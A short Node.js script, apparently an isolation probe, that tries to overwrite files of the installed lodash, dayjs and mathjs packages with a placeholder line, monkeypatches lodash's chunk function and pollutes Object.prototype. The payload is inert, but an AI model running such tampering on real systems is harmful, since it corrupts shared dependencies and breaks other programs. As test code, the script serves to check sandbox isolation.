// Changes what every JavaScript program requires.
const fs = require("node:fs");
const path = require("node:path");
for (const name of ["lodash", "dayjs", "mathjs"]) {
  const directory = path.dirname(require.resolve(name));
  for (const file of ["package.json", "index.js", path.basename(require.resolve(name)), "planted.js"]) {
    try {
      fs.writeFileSync(`${directory}/${file}`, "console.log('planted')");
      console.log(`${directory}/${file}: written`);
    } catch (error) {
      if (!["EROFS", "EACCES", "ENOENT"].includes(error.code)) console.log(`${directory}/${file}: ${error.code}`);
    }
  }
}
require("lodash").chunk = () => "poisoned";
Object.prototype.poisoned = true;
console.log("only its own");
